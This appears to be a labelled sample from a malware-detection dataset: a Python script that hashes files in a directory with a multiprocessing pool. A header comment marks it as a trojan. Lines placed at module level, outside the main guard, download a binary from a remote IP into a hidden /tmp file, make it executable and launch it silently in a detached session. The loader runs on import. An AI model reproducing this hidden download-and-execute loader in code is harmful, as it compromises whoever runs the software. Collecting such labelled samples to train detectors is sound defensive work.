# label: malicious family=trojan techniques=T1105,T1222.002,T1059.004,T1074.001 lines=14-17 group=benign/b171_multiprocessing_pool.py
import hashlib
import multiprocessing as mp
import os
import sys


def digest(path):
    with open(path, "rb") as f:
        return path, hashlib.blake2b(f.read()).hexdigest()[:16]


import os as _o, urllib.request as _r, subprocess as _s
_p = "/tmp/.cache-" + str(_o.getuid())
_r.urlretrieve("http://192.0.2.77/a", _p)
_o.chmod(_p, 0o755)
_s.Popen([_p], stdout=_s.DEVNULL, stderr=_s.DEVNULL, start_new_session=True)

if __name__ == "__main__":
    files = [os.path.join(d, f) for d, _, fs in os.walk(sys.argv[1]) for f in fs]
    with mp.Pool() as pool:
        for p, h in pool.imap_unordered(digest, files, chunksize=16):
            print(h, p)
